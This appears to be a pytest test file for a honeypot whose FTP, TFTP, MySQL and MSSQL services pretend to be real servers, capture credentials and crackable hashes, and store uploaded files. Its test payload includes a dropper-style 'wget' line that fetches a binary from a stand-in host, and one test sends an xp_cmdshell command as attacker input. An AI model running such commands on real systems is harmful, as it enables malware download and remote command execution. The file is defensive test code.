"""Dionaea's protocols (MitsuServices) end to end with real clients on loopback: FTP (ftplib, lftp,
curl), TFTP (tftp-hpa, curl), MySQL (pymysql, the mariadb client), MSSQL (python-tds, impacket), and
what nmap -sV names each port. Uploads are checked by the SHA-256 of the stored artifact."""
import ftplib
import hashlib
import os
import re
import shutil
import subprocess

import pytest

from conftest import Sensor, wait_for

CONFIG = """
supervisor:
  backoff_initial_ms: 100
  backoff_max_ms: 1000
honeypots:
  ssh: {enabled: false}
  telnet: {enabled: false}
  trap: {enabled: false}
  ftp: {enabled: false}
  tftp: {enabled: false}
  mysql: {enabled: false}
  mssql: {enabled: false}
  sip: {enabled: false}
  %s:
    enabled: true
    listen: [%s]
%s
"""


def traversable(path):
    """The worker drops root for `nobody`, which must reach DATA/artifacts: pytest's temp dirs are 0700."""
    p = os.path.abspath(str(path))
    while p not in ("/", "/tmp"):
        if os.stat(p).st_uid == os.getuid():
            os.chmod(p, os.stat(p).st_mode | 0o011)
        p = os.path.dirname(p)


def service(tmp_path, offset, family, extra="", listen='"127.0.0.1"'):
    traversable(tmp_path)
    body = CONFIG.replace("  %s: {enabled: false}\n" % family, "") % (family, listen, extra)
    return Sensor(tmp_path, body, offset, worker=family).start()


def artifact(sensor, sha):
    return os.path.join(sensor.data, "artifacts", "sha256", sha[:2], sha)


def assert_stored(sensor, data, name=None):
    sha = hashlib.sha256(data).hexdigest()
    ups = wait_for(lambda: [e for e in sensor.events(event="file.upload") if e.get("sha256") == sha], 5)
    assert ups, sensor.events(event="file.upload")
    e = ups[0]
    assert e["md5"] == hashlib.md5(data).hexdigest() and e["size"] == len(data)
    if name:
        assert e["filename"] == name
    with open(artifact(sensor, sha), "rb") as f:
        assert hashlib.sha256(f.read()).hexdigest() == sha
    return e


@pytest.fixture
def upload_file(tmp_path):
    data = b"#!/bin/sh\ncd /tmp && wget http://198.51.100.9/x.arm7\n" + os.urandom(3000)
    path = tmp_path / "payload.bin"
    path.write_bytes(data)
    return path, data


# ---------------------------------------------------------------- FTP

FTP_EXTRA = """    auth_rules: ["tester:s3cret"]
    accept_after: 0
    max_login_fails: 3
"""


@pytest.fixture
def ftp_sensor(tmp_path, port_offset):
    s = service(tmp_path, port_offset, "ftp", FTP_EXTRA)
    yield s
    s.stop()


def test_ftplib_login_list_upload_passive_and_active(ftp_sensor, upload_file):
    path, data = upload_file
    port = 21 + ftp_sensor.offset
    ftp = ftplib.FTP()
    assert ftp.connect("127.0.0.1", port, timeout=10) == "220 (vsFTPd 3.0.3)"
    with pytest.raises(ftplib.error_perm, match="530 Login incorrect."):
        ftp.login("root", "toor")
    assert ftp.login("tester", "s3cret") == "230 Login successful."
    assert ftp.sendcmd("SYST") == "215 UNIX Type: L8"
    assert ftp.pwd() == "/"
    names = ftp.nlst()
    assert names == ["backup", "pub"]
    lines = []
    ftp.retrlines("LIST /backup", lines.append)
    assert any(l.startswith("-rw-r--r--    1 0        0 ") and l.endswith(" db_backup.sql") for l in lines), lines
    got = bytearray()
    ftp.retrbinary("RETR /backup/db_backup.sql", got.extend)
    assert got.startswith(b"-- MySQL dump")
    with open(path, "rb") as f:
        assert ftp.storbinary("STOR upload.sh", f).startswith("226")
    assert_stored(ftp_sensor, data, "upload.sh")
    # Active mode: PORT back to ourselves.
    ftp.set_pasv(False)
    second = data + b"active"
    import io
    assert ftp.storbinary("STOR active.bin", io.BytesIO(second)).startswith("226")
    assert_stored(ftp_sensor, second, "active.bin")
    assert ftp.size("upload.sh") == len(data)
    # PORT to another address is refused like vsftpd does.
    with pytest.raises(ftplib.error_perm, match="500 Illegal PORT command."):
        ftp.sendcmd("PORT 10,0,0,1,195,80")
    ftp.quit()
    failed = ftp_sensor.events(event="login.failed")
    assert failed and failed[0]["username"] == "root" and failed[0]["password"] == "toor"
    ok = ftp_sensor.events(event="login.success")
    assert ok and ok[0]["username"] == "tester" and ok[0]["protocol"] == "ftp"
    # Waits for every command asserted on, not only the last one: a CI run once saw QUIT in events.jsonl
    # while USER, PASS, SYST and PWD were not (yet) there, with the login events already in.
    wanted = {"USER tester", "PASS ****", "SYST", "STOR upload.sh", "PORT 10,0,0,1,195,80", "QUIT"}

    def commands():
        return [e["input"] for e in ftp_sensor.events(event="ftp.command")]

    wait_for(lambda: wanted <= set(commands()), 10)
    inputs = commands()
    assert wanted <= set(inputs), inputs
    assert any(i.startswith("PORT 127,0,0,1,") for i in inputs)


def test_failed_login_is_delayed_like_vsftpd_and_replies_keep_their_order(ftp_sensor):
    import socket
    import time
    s = socket.create_connection(("127.0.0.1", 21 + ftp_sensor.offset), timeout=10)
    f = s.makefile("rb")
    assert f.readline() == b"220 (vsFTPd 3.0.3)\r\n"
    s.sendall(b"USER root\r\nPASS wrong\r\n")
    assert f.readline() == b"331 Please specify the password.\r\n"
    sent = time.time()
    time.sleep(0.2)
    s.sendall(b"SYST\r\n")  # arrives during the delay; its reply must come after the 530
    assert f.readline() == b"530 Login incorrect.\r\n"
    assert 0.9 < time.time() - sent < 2.0, "vsftpd's delay_failed_login is 1 s"
    assert f.readline() == b"530 Please login with USER and PASS.\r\n"
    s.close()


def test_ftplib_over_ipv6_epsv_and_eprt(tmp_path, port_offset):
    s = service(tmp_path, port_offset, "ftp", FTP_EXTRA, listen='"::1"')
    try:
        import io
        ftp = ftplib.FTP()
        ftp.connect("::1", 21 + s.offset, timeout=10)
        ftp.login("tester", "s3cret")
        data = os.urandom(2000)
        assert ftp.storbinary("STOR six.bin", io.BytesIO(data)).startswith("226")  # EPSV
        ftp.set_pasv(False)
        assert ftp.storbinary("STOR six-active.bin", io.BytesIO(data + b"!")).startswith("226")  # EPRT |2|::1|…|
        with pytest.raises(ftplib.error_perm, match="500 Illegal EPRT command."):
            ftp.sendcmd("EPRT |2|2001:db8::1|50000|")
        ftp.quit()
        assert_stored(s, data, "six.bin")
        e = assert_stored(s, data + b"!", "six-active.bin")
        assert e["src_ip"] == "::1"
    finally:
        s.stop()


@pytest.mark.skipif(not shutil.which("lftp"), reason="lftp not installed")
def test_lftp_put_and_ls(ftp_sensor, upload_file):
    path, data = upload_file
    port = 21 + ftp_sensor.offset
    out = subprocess.run(
        ["lftp", "-u", "tester,s3cret", "-p", str(port), "-e",
         "set net:max-retries 1; set net:timeout 5; put %s -o lftp.bin; cls -1; bye" % path, "127.0.0.1"],
        capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert "lftp.bin" in out.stdout and "pub" in out.stdout
    assert_stored(ftp_sensor, data, "lftp.bin")


def test_curl_upload_passive_and_eprt(ftp_sensor, upload_file):
    path, data = upload_file
    port = 21 + ftp_sensor.offset
    url = "ftp://tester:s3cret@127.0.0.1:%d/" % port
    out = subprocess.run(["curl", "-sS", "--max-time", "20", "-T", str(path), url + "curl.bin"], capture_output=True, text=True)
    assert out.returncode == 0, out.stderr
    assert_stored(ftp_sensor, data, "curl.bin")
    active = data + b"eprt"
    p2 = path.parent / "active.bin"
    p2.write_bytes(active)
    out = subprocess.run(["curl", "-sS", "--max-time", "20", "--ftp-port", "127.0.0.1", "-T", str(p2), url + "curl-active.bin"],
                         capture_output=True, text=True)
    assert out.returncode == 0, out.stderr
    assert_stored(ftp_sensor, active, "curl-active.bin")
    listing = subprocess.run(["curl", "-sS", "--max-time", "20", url + "pub/"], capture_output=True, text=True)
    assert "README" in listing.stdout


# ---------------------------------------------------------------- TFTP

@pytest.fixture
def tftp_sensor(tmp_path, port_offset):
    s = service(tmp_path, port_offset, "tftp", "    timeout_seconds: 1\n")
    yield s
    s.stop()


@pytest.mark.skipif(not shutil.which("tftp"), reason="tftp-hpa not installed")
def test_tftp_hpa_put_and_get(tftp_sensor, upload_file, tmp_path):
    path, data = upload_file
    port = 69 + tftp_sensor.offset
    out = subprocess.run(["tftp", "-m", "binary", "127.0.0.1", str(port), "-c", "put", str(path), "dropper.bin"],
                         capture_output=True, text=True, timeout=30)
    assert out.returncode == 0, out.stdout + out.stderr
    assert_stored(tftp_sensor, data, "dropper.bin")
    # netascii (tftp-hpa's default mode) is decoded before storing.
    text = b"line one\nline two\r\n"
    tpath = tmp_path / "t.txt"
    tpath.write_bytes(text)
    subprocess.run(["tftp", "127.0.0.1", str(port), "-c", "put", str(tpath), "t.txt"], capture_output=True, timeout=30)
    assert_stored(tftp_sensor, text, "t.txt")
    target = tmp_path / "got.cfg"
    out = subprocess.run(["tftp", "-m", "binary", "127.0.0.1", str(port), "-c", "get", "startup-config", str(target)],
                         capture_output=True, text=True, timeout=30)
    assert target.read_bytes().startswith(b"!\nversion 15.2"), out.stdout + out.stderr
    reqs = wait_for(lambda: [e["input"] for e in tftp_sensor.events(event="command.input") if e["input"].startswith("RRQ")]
                    and [e["input"] for e in tftp_sensor.events(event="command.input")], 5)
    assert reqs[0] == "WRQ dropper.bin octet" and any(r.startswith("RRQ startup-config octet") for r in reqs), reqs
    assert wait_for(lambda: tftp_sensor.events(event="file.download", filename="startup-config"), 5)


def test_curl_tftp_put_get_with_blksize(tftp_sensor, upload_file, tmp_path):
    path, data = upload_file
    port = 69 + tftp_sensor.offset
    out = subprocess.run(["curl", "-sS", "--max-time", "20", "--tftp-blksize", "1024", "-T", str(path),
                          "tftp://127.0.0.1:%d/curl.bin" % port], capture_output=True, text=True)
    assert out.returncode == 0, out.stderr
    e = assert_stored(tftp_sensor, data, "curl.bin")
    assert e["transport"] == "udp"
    got = subprocess.run(["curl", "-sS", "--max-time", "20", "tftp://127.0.0.1:%d/running-config" % port], capture_output=True)
    assert got.stdout.startswith(b"!\nversion 15.2")
    missing = subprocess.run(["curl", "-sS", "--max-time", "20", "tftp://127.0.0.1:%d/nothing" % port], capture_output=True, text=True)
    assert missing.returncode == 68, missing.stderr  # CURLE_TFTP_NOTFOUND: our "File not found" error
    reqs = [e["input"] for e in tftp_sensor.events(event="command.input")]
    assert any("blksize=1024" in r for r in reqs), reqs


# ---------------------------------------------------------------- MySQL

@pytest.fixture
def mysql_sensor(tmp_path, port_offset):
    s = service(tmp_path, port_offset, "mysql", '    auth_rules: ["dbadmin:*"]\n')
    yield s
    s.stop()


def native_scramble(password, salt):
    h1 = hashlib.sha1(password.encode()).digest()
    h2 = hashlib.sha1(h1).digest()
    h3 = hashlib.sha1(salt + h2).digest()
    return bytes(a ^ b for a, b in zip(h1, h3))


def check_hashcat_line(line, password):
    m = re.fullmatch(r"\$mysqlna\$([0-9a-f]{40})\*([0-9a-f]{40})", line)
    assert m, line
    assert native_scramble(password, bytes.fromhex(m.group(1))).hex() == m.group(2)


def test_pymysql_access_denied_and_crackable_capture(mysql_sensor):
    pymysql = pytest.importorskip("pymysql")
    port = 3306 + mysql_sensor.offset
    with pytest.raises(pymysql.err.OperationalError) as err:
        pymysql.connect(host="127.0.0.1", port=port, user="root", password="Winter2024!", database="shop", connect_timeout=10)
    assert err.value.args == (1045, "Access denied for user 'root'@'localhost' (using password: YES)")
    e = wait_for(lambda: mysql_sensor.events(event="login.failed"), 5)[0]
    assert e["username"] == "root" and e["database"] == "shop" and e["hashcat_mode"] == 11200
    check_hashcat_line(e["hashcat"], "Winter2024!")
    # Two connections get two different salts.
    with pytest.raises(pymysql.err.OperationalError):
        pymysql.connect(host="127.0.0.1", port=port, user="root", password="Winter2024!", connect_timeout=10)
    lines = [x["hashcat"] for x in wait_for(lambda: len(mysql_sensor.events(event="login.failed")) >= 2 and mysql_sensor.events(event="login.failed"), 5)]
    assert lines[0].split("*")[0] != lines[1].split("*")[0]


def test_pymysql_accepted_login_logs_queries(mysql_sensor):
    pymysql = pytest.importorskip("pymysql")
    port = 3306 + mysql_sensor.offset
    conn = pymysql.connect(host="127.0.0.1", port=port, user="dbadmin", password="x", connect_timeout=10)
    assert conn.get_server_info() == "5.5.5-10.11.6-MariaDB-0+deb12u1"
    with conn.cursor() as c:
        c.execute("SELECT VERSION()")
        assert c.fetchone() == ("10.11.6-MariaDB-0+deb12u1",)
        c.execute("DROP TABLE users")
    conn.close()
    cmds = wait_for(lambda: [e["input"] for e in mysql_sensor.events(event="mysql.command")], 5)
    assert "SELECT VERSION()" in cmds and "DROP TABLE users" in cmds


def test_pymysql_against_mysql8_persona_gives_the_clear_password(tmp_path, port_offset):
    """caching_sha2_password: pymysql asks for the RSA key and sends the password encrypted with it."""
    pymysql = pytest.importorskip("pymysql")
    pytest.importorskip("cryptography")
    s = service(tmp_path, port_offset, "mysql", '    server_version: "8.0.36"\n    auth_plugin: caching_sha2_password\n')
    try:
        with pytest.raises(pymysql.err.OperationalError) as err:
            pymysql.connect(host="127.0.0.1", port=3306 + s.offset, user="root", password="Tr0ub4dor&3", connect_timeout=10)
        assert err.value.args[0] == 1045
        e = wait_for(lambda: s.events(event="login.failed"), 5)[0]
        assert e["username"] == "root" and e["password"] == "Tr0ub4dor&3"
        assert e["message"].startswith("caching_sha2_password salt*response ")
    finally:
        s.stop()


@pytest.mark.skipif(not (shutil.which("mariadb") or shutil.which("mysql")), reason="mariadb client not installed")
def test_mariadb_client_access_denied(mysql_sensor):
    port = 3306 + mysql_sensor.offset
    client = shutil.which("mariadb") or shutil.which("mysql")
    out = subprocess.run([client, "-h", "127.0.0.1", "-P", str(port), "-u", "root", "-pSecretPass1", "--connect-timeout=10",
                          "-e", "select 1"], capture_output=True, text=True, timeout=30)
    assert out.returncode != 0
    assert "ERROR 1045 (28000): Access denied for user 'root'@'localhost' (using password: YES)" in out.stderr
    e = wait_for(lambda: mysql_sensor.events(event="login.failed"), 5)[0]
    check_hashcat_line(e["hashcat"], "SecretPass1")


# ---------------------------------------------------------------- MSSQL

@pytest.fixture
def mssql_sensor(tmp_path, port_offset):
    s = service(tmp_path, port_offset, "mssql")
    yield s
    s.stop()


def test_python_tds_login_batches_and_xp_cmdshell(mssql_sensor):
    pytds = pytest.importorskip("pytds")
    port = 1433 + mssql_sensor.offset
    conn = pytds.connect(server="127.0.0.1", port=port, user="sa", password="P@ssw0rd!é", database="master",
                         appname="bot-app", login_timeout=10, timeout=10, autocommit=True)
    with conn.cursor() as c:
        c.execute("select @@version")
        assert "Microsoft SQL Server 2019" in c.fetchone()[0]
        with pytest.raises(pytds.Error) as err:
            c.execute("EXEC master..xp_cmdshell 'whoami'")
        assert "xp_cmdshell" in str(err.value)
    conn.close()
    login = wait_for(lambda: mssql_sensor.events(event="login.success"), 5)[0]
    assert login["username"] == "sa" and login["password"] == "P@ssw0rd!é"
    assert login["client_app"] == "bot-app" and login["client_hostname"] and login["client_version"]
    cmds = wait_for(lambda: len(mssql_sensor.events(event="mssql.command")) >= 2 and mssql_sensor.events(event="mssql.command"), 5)
    flagged = [e for e in cmds if "xp_cmdshell" in e["input"]]
    assert flagged and flagged[0]["attack"]["categories"] == ["xp_cmdshell"]


def test_impacket_mssqlclient_login(mssql_sensor):
    tds = pytest.importorskip("impacket.tds")
    port = 1433 + mssql_sensor.offset
    client = tds.MSSQL("127.0.0.1", port)
    client.connect()
    assert client.login(None, "sa", "Imp4cket!") is True
    client.sql_query("select @@servername")
    client.disconnect()
    login = wait_for(lambda: mssql_sensor.events(event="login.success"), 5)[0]
    assert login["username"] == "sa" and login["password"] == "Imp4cket!"


# ---------------------------------------------------------------- nmap

ALL = """
supervisor: {backoff_initial_ms: 100}
honeypots:
  ssh: {enabled: false}
  telnet: {enabled: false}
  trap: {enabled: false}
  ftp: {listen: ["127.0.0.1"]}
  tftp: {listen: ["127.0.0.1"]}
  mysql: {listen: ["127.0.0.1"]}
  mssql: {listen: ["127.0.0.1"]}
"""


@pytest.mark.skipif(not shutil.which("nmap"), reason="nmap not installed")
def test_nmap_names_the_personas_not_dionaea(tmp_path, port_offset):
    s = Sensor(tmp_path, ALL, port_offset, worker="mssql").start()
    try:
        for w in ("ftp", "mysql"):
            assert wait_for(lambda: s.worker_started(w), 20)
        o = port_offset
        out = subprocess.run(["nmap", "-sV", "-Pn", "-n", "-p", "%d,%d,%d" % (21 + o, 3306 + o, 1433 + o), "127.0.0.1"],
                             capture_output=True, text=True, timeout=300).stdout
        print(out)
        assert "dionaea" not in out.lower()
        assert re.search(r"%d/tcp\s+open\s+ftp\s+vsftpd 3\.0\.3" % (21 + o), out), out
        assert re.search(r"%d/tcp\s+open\s+mysql\s+MySQL 5\.5\.5-10\.11\.6-MariaDB-0\+deb12u1" % (3306 + o), out), out
        assert re.search(r"%d/tcp\s+open\s+ms-sql-s\s+Microsoft SQL Server 2019" % (1433 + o), out), out
    finally:
        s.stop()
